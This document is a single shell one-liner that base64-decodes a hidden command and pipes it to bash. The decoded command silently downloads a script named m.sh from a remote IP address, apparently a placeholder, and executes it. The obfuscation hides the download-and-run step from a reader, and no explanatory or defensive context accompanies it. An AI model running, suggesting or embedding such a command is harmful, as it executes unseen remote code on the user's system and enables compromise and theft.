base64 --decode <<< "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQvbS5zaCB8IHNo" | bash
